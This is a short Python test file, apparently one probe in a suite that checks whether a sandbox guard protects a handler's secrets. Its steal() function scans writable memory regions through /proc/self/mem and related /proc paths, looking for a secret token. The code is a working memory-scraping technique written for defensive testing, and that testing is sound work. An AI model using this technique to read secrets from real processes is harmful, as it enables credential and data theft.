# class: handler
# rule: guard_integrity
# success: the handler's text is found in the process's own memory, read through /proc
# proof: read
# when: call
import os
import re
import threading

from attack import SECRET, attempt

WAYS = (
    "/proc/self/mem",
    "/proc/%d/mem" % os.getpid(),
    "/proc/self/task/%d/mem" % threading.get_native_id(),
)


def search(path):
    with open("/proc/self/maps") as maps:
        pieces = [
            line.split()[0].split("-") for line in maps if " rw-p " in line and "[v" not in line
        ]
    with open(path, "rb", buffering=0) as memory:
        for low, high in pieces:
            memory.seek(int(low, 16))
            for at in range(int(low, 16), int(high, 16), 1 << 22):
                found = memory.read(min(1 << 22, int(high, 16) - at)) or b""
                text = re.search(SECRET.encode() + rb" proof[0-9a-f]+", found)
                if text:
                    return text.group()
    return b""


@attempt
def steal():
    problem = None
    for way in WAYS:
        try:
            found = search(way)
        except OSError as error:
            problem = error
            continue
        if found:
            return found
    raise problem
